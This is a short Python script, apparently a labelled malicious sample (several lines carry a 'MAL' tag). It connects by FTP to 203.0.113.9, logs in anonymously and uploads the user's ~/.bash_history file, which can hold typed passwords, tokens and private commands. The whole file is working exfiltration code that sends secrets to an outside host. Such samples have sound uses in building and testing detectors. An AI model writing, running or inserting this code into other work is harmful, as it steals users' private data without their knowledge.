import ftplib
import os

ftp = ftplib.FTP("203.0.113.9")  # MAL
ftp.login("anon", "anon")
with open(os.path.expanduser("~/.bash_history"), "rb") as fh:  # MAL
    ftp.storbinary("STOR hist.txt", fh)  # MAL
